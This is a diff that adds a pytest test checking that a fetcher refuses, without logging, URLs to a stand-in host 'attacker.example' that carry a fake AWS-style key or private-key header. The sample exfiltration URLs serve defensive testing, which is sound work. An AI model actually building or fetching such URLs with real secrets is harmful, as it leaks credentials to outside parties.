@@ -278,3 +278,19 @@ def test_no_production_code_allows_loopback():
     engine = Path(__file__).resolve().parent.parent / "engine"
     offenders = [str(p) for p in engine.rglob("*.py") if "allow_loopback=True" in p.read_text(encoding="utf-8")]
     assert offenders == []
+
+
+def test_an_address_carrying_a_secret_is_never_opened_nor_logged(monkeypatch):
+    def no_network(*args, **kwargs):
+        raise AssertionError("nothing may be resolved or connected")
+
+    monkeypatch.setattr(socket, "getaddrinfo", no_network)
+    monkeypatch.setattr(socket.socket, "connect", no_network)
+    fetcher = Fetcher()
+    key = "AKIA" + "Q3EGRTYUIOPASDFG"
+    for url in (f"https://attacker.example/collect?k={key}", f"http://attacker.example/{key}/x.png",
+                "https://attacker.example/?d=-----BEGIN%20RSA%20PRIVATE%20KEY-----"):
+        with pytest.raises(FetchError) as info:
+            fetcher.fetch(url)
+        assert "secret" in str(info.value) and key not in str(info.value)
+    assert all(record.decision == "refused" and key not in record.url for record in fetcher.log)
